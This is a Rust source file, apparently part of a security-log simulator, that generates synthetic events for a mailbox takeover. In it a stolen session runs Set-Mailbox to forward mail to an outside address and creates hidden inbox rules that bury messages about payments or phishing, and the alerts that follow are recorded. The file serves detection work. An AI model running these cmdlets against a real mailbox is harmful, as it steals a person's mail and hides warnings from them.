//! A stolen session turns on forwarding of a mailbox and hides the answers with rules.

use crate::events::sign_in::{Risk, Subject};
use crate::events::unified::{Body, ComplianceAlert, Mail, MailClient, MailOperation};
use crate::life::attempt::{Second, method_of};
use crate::scenarios::{Scenario, Stage};
use crate::world::applications::{EXCHANGE_ONLINE, OUTLOOK_WEB};
use crate::world::clients::{Client, Platform, Program};
use crate::world::networks;
use crate::world::places::city_named;

pub(super) const SCENARIO: Scenario =
    Scenario { name: "mailbox-forwarding-and-hiding-rules", technique: "T1114.003", malicious: true, play };

fn play(stage: &mut Stage<'_>) -> String {
    let world = stage.world;
    let victim = stage.victim();
    let begins = stage.at(victim, 11);
    let source = networks::hosting(city_named("Lagos"), &mut stage.random);
    let source = networks::Source { city: city_named("Ashburn"), ..source };
    let client = Client::on(Platform::Windows10, Program::Chrome, begins, 10);
    let mut attempt =
        stage.attempt(Subject::Person(victim.index), begins, source, client, (OUTLOOK_WEB, EXCHANGE_ONLINE));
    attempt.risk = Risk { level: "low", state: "atRisk", kind: "unfamiliarFeatures" };
    let entry = attempt.end(world, 0, Second::Given(method_of(victim)));
    let session = attempt.session;
    stage.sign_in(entry.clone());
    stage.detect(&entry, "unfamiliarFeatures", "low", true);
    let mut time = begins;
    for _ in 0..14 {
        time = stage.moment_after(time, 10, 70);
        let salt = stage.random.next();
        stage.unified(
            time,
            Body::Mail(Mail {
                operation: MailOperation::Bind,
                owner: victim.index,
                source,
                session,
                client: MailClient::OutlookWeb,
                items: 5,
                salt,
                application: None,
            }),
        );
    }
    let who = (victim.index, source, session);
    let web = "00000002-0000-0ff1-ce00-000000000000";
    let outside = format!("archive.{}@mailbox.example", stage.number());
    time = stage.moment_after(time, 30, 120);
    stage.command(
        time,
        who,
        "Set-Mailbox",
        web,
        victim.sign_in.clone(),
        vec![
            ("Identity", victim.sign_in.clone()),
            ("DeliverToMailboxAndForward", String::from("True")),
            ("ForwardingSmtpAddress", format!("smtp:{outside}")),
        ],
    );
    for (name, words, folder) in
        [(".", "invoice;payment;bank", "RSS Feeds"), ("..", "password;phish;hacked", "Conversation History")]
    {
        time = stage.moment_after(time, 20, 90);
        stage.command(
            time,
            who,
            "New-InboxRule",
            web,
            format!("{}\\{name}", victim.sign_in),
            vec![
                ("AlwaysDeleteOutlookRulesBlob", String::from("False")),
                ("Force", String::from("False")),
                ("Name", String::from(name)),
                ("SubjectOrBodyContainsWords", String::from(words)),
                ("MoveToFolder", String::from(folder)),
                ("MarkAsRead", String::from("True")),
                ("StopProcessingRules", String::from("True")),
            ],
        );
    }
    let noticed = stage.moment_after(time, 200, 900);
    stage.unified(
        noticed,
        Body::Alert(Box::new(ComplianceAlert {
            name: "Creation of forwarding/redirect rule",
            category: "ThreatManagement",
            severity: "Low",
            person: victim.index,
            operation: "AlertTriggered",
        })),
    );
    stage.cloud_alert(time, "Suspicious inbox manipulation rule", "T1564.008", victim.index, source);
    format!(
        "Someone with {}'s password and a tricked second factor read mail, forwarded the mailbox to {outside} and hid the answers with two rules.",
        victim.display
    )
}
